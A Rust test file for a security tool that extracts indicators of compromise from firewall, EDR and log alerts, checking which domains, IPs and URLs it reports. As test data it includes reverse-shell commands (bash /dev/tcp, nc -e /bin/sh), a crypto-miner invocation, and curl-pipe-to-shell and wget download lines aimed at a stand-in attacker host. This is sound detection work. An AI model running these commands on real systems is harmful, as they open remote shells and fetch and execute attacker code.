//! What products tell in fields that others have not.

use serde_json::{Value, json};

use super::{SHA256, alert, expect, indicators_of};

fn palo_alto(source: &str, destination: &str, file: &str) -> Value {
    json!({"data": {"type": "THREAT", "source_address": source, "destination_address": destination, "source_port": "50123",
        "destination_port": "443", "url_filename": file}})
}

#[test]
fn a_firewall_that_sees_where_somebody_went_names_the_place_without_its_scheme() {
    let out = palo_alto("10.1.4.9", "203.0.113.66", "evil-org.com/gate.php?x=1");
    expect(&out, &[("ip-dst", "203.0.113.66"), ("domain", "evil-org.com")]);
    assert_eq!(alert(&out).actors().urls, ["evil-org.com/gate.php?x=1"]);
    // It is the organisation's own that others ask for.
    let into = palo_alto("203.0.113.9", "10.1.1.20", "shop.test-org.com/cgi-bin/x");
    expect(&into, &[("ip-src", "203.0.113.9")]);
    for file in ["cgi-bin/x.sh", "setup.zip", "a.sh"] {
        let out = palo_alto("10.1.4.9", "203.0.113.66", file);
        assert!(indicators_of(&out).iter().all(|(kind, _)| *kind != "domain"), "{file}");
    }
    let mut fetched = palo_alto("203.0.113.66", "10.1.4.9", "invoice.exe");
    fetched["data"]["file_digest"] = json!(SHA256);
    fetched["data"]["destination_user"] = json!(r"corp\bob");
    expect(
        &fetched,
        &[
            ("ip-src", "203.0.113.66"),
            ("filename", "invoice.exe"),
            ("sha256", SHA256),
        ],
    );
    let fetched = alert(&fetched);
    let actors = fetched.actors();
    assert_eq!(
        (actors.files[0].as_ref(), actors.users[0].name.as_ref()),
        ("invoice.exe", r"corp\bob")
    );
}

#[test]
fn where_a_sensor_is_on_is_nobody_elses_where_the_manager_fetched_it() {
    let of = |agent: &str, data: &Value| json!({"agent": {"id": agent, "name": "x"}, "data": data});
    for data in [
        json!({"sentinelone": {"agentDetectionInfo": {"externalIp": "203.0.113.50", "agentIpV4": "10.1.4.9"}}}),
        json!({"agentRealtimeInfo": {"externalIp": "203.0.113.50"}}),
        json!({"crowdstrike": {"event": {"LocalIP": "203.0.113.50"}}}),
    ] {
        let fetched = of("000", &data);
        expect(&fetched, &[]);
        assert!(alert(&fetched).actors().sources.is_empty(), "{fetched}");
        // Whoever writes JSON on a machine calls fields as he likes.
        assert!(
            !indicators_of(&of("001", &data)).is_empty() || data["crowdstrike"].is_object(),
            "{data}"
        );
    }
    let other = of("000", &json!({"agentRealtimeInfo": {"srcip": "203.0.113.50"}}));
    expect(&other, &[("ip-src", "203.0.113.50")]);
}

#[test]
fn folding_tells_these_fields_apart_as_before() {
    let key = |data: Value| {
        let value = json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": data});
        let print = alert(&value).fingerprint();
        (print.key, print.distinct)
    };
    for (one, other) in [
        (
            json!({"actor": {"alternateId": "eve@test-org.com"}}),
            json!({"actor": {"alternateId": "bob@test-org.com"}}),
        ),
        (
            json!({"RemoteUrl": "a.evil-org.com"}),
            json!({"RemoteUrl": "b.other-org.com"}),
        ),
        (
            json!({"Caller": "eve@test-org.com"}),
            json!({"Caller": "bob@test-org.com"}),
        ),
    ] {
        assert_ne!(key(one.clone()), key(other), "{one}");
    }
}

#[test]
fn what_a_command_connects_to_is_an_indicator_without_a_url_too() {
    for (command, expected) in [
        (
            "bash -c 'bash -i >& /dev/tcp/c2.evil-org.com/443 0>&1'",
            "c2.evil-org.com",
        ),
        ("xmrig -o stratum+tcp://pool.evil-org.com:3333", "pool.evil-org.com"),
        ("nc -e /bin/sh c2.evil-org.com 4444", "c2.evil-org.com"),
    ] {
        let value = json!({"data": {"command": command}});
        expect(&value, &[("domain", expected)]);
    }
    for own in ["nc -zv fileserver 445", "git clone ssh://git/x", "nc -l 4444"] {
        expect(&json!({"data": {"command": own}}), &[]);
    }
}

#[test]
fn what_cron_ran_and_a_firewall_matched_stand_in_their_lines_alone() {
    let cron = json!({"full_log": "Jan 20 09:02:17 lnx5 CRON[123]: (root) CMD (curl -s http://evil-org.com/i.sh | sh)",
        "predecoder": {"program_name": "CRON"}, "data": {"srcuser": "root"}});
    expect(
        &cron,
        &[("domain", "evil-org.com"), ("url", "http://evil-org.com/i.sh")],
    );
    let cron = alert(&cron);
    let process = cron.actors().process.unwrap();
    assert_eq!(
        process.command_line.as_deref(),
        Some("curl -s http://evil-org.com/i.sh | sh")
    );
    let matched = json!({"data": {"srcip": "203.0.113.9"}, "full_log": concat!(
        "[security2:error] [client 203.0.113.9:5522] ModSecurity: Access denied with code 403 (phase 2). ",
        r#"[id "932100"] [data "Matched Data: ;wget http://evil-org.com/x found within ARGS:q: ;wget http://evil-org.com/x"] [hostname "shop.test-org.com"]"#)});
    expect(
        &matched,
        &[
            ("ip-src", "203.0.113.9"),
            ("domain", "evil-org.com"),
            ("url", "http://evil-org.com/x"),
        ],
    );
}

#[test]
fn no_line_passes_for_one_of_cron_or_of_a_firewall() {
    let ran = "CRON[1]: (root) CMD (curl http://innocent-org.com/x)";
    let matched = r#"ModSecurity: [id "932100"] [data "Matched Data: http://innocent-org.com/x found within x"]"#;
    for (line, program) in [
        (format!("Jan 20 09:02:17 h app user {ran}"), None),
        (format!("Jan 20 09:02:17 h app user {ran}"), Some("app")),
        (
            format!("Jan 20 09:02:17 h sshd[1]: Invalid user {matched} from 10.0.0.9 port 22"),
            Some("sshd"),
        ),
        (format!("open {matched}"), None),
    ] {
        let mut value = json!({ "full_log": line });
        if let Some(program) = program {
            value["predecoder"] = json!({ "program_name": program });
        }
        expect(&value, &[]);
        assert!(alert(&value).actors().process.is_none(), "{value}");
    }
}

#[test]
fn whoever_asks_a_server_of_the_organisation_chooses_no_indicator_by_its_name() {
    // The higher port is no sign of who asked where the firewall says it.
    let mut low = palo_alto("203.0.113.9", "10.1.1.20", "innocent-org.com/x");
    low["data"]["source_port"] = json!("443");
    low["data"]["destination_port"] = json!("8443");
    expect(&low, &[("ip-src", "203.0.113.9")]);
    for file in [
        "login.php",
        "setup.cgi",
        "www.acme-org.com/x?u=http://innocent-org.com/a",
    ] {
        let into = palo_alto("203.0.113.9", "10.1.1.20", file);
        expect(&into, &[("ip-src", "203.0.113.9")]);
        assert!(alert(&into).actors().files.is_empty(), "{file}");
    }
    expect(&palo_alto("10.1.4.9", "10.1.1.20", "jira.acme-org.com/x"), &[]);
    let mut nobody = palo_alto("10.1.4.9", "203.0.113.66", "shop.acme-org.com/x");
    nobody["data"].as_object_mut().unwrap().remove("source_address");
    expect(&nobody, &[("ip-dst", "203.0.113.66")]);
    // Of a URL in a query only the host before it counts.
    let out = palo_alto(
        "10.1.4.9",
        "203.0.113.66",
        "evil-org.com/login?next=https://accounts.innocent-org.com/",
    );
    expect(&out, &[("ip-dst", "203.0.113.66"), ("domain", "evil-org.com")]);
    let mut asked = palo_alto("10.1.4.9", "203.0.113.66", "vbr.evil-org.com");
    asked["data"]["destination_port"] = json!("53");
    expect(&asked, &[("ip-dst", "203.0.113.66"), ("domain", "vbr.evil-org.com")]);
    asked["data"]["source_address"] = json!("203.0.113.9");
    asked["data"]["destination_address"] = json!("10.1.1.53");
    expect(&asked, &[("ip-src", "203.0.113.9")]);
    let mut page = palo_alto("203.0.113.9", "10.1.1.20", "login.php");
    page["data"]["file_digest"] = json!("N/A");
    expect(&page, &[("ip-src", "203.0.113.9")]);
}

#[test]
fn defender_for_endpoint_tells_of_ones_own_servers_too() {
    let fetched = |url: &str, ip: &str| {
        json!({"agent": {"id": "000", "name": "wazuh"}, "data": {"properties":
            {"DeviceName": "ws-9.acme-org.com", "RemoteUrl": url, "RemoteIP": ip}}})
    };
    let names = |value: &Value| -> Vec<_> {
        let found = indicators_of(value).into_iter();
        found
            .filter(|(kind, _)| !kind.starts_with("ip"))
            .map(|(_, name)| name)
            .collect()
    };
    assert_eq!(names(&fetched("c2.evil-org.com", "203.0.113.66")), ["c2.evil-org.com"]);
    let url = "https://c2.evil-org.com/x";
    assert_eq!(names(&fetched(url, "203.0.113.66")), ["c2.evil-org.com", url]);
    assert_eq!(names(&fetched("dc01.acme-org.com", "203.0.113.66")), [] as [&str; 0]);
    assert_eq!(names(&fetched("other-org.com", "10.0.0.5")), [] as [&str; 0]);
}
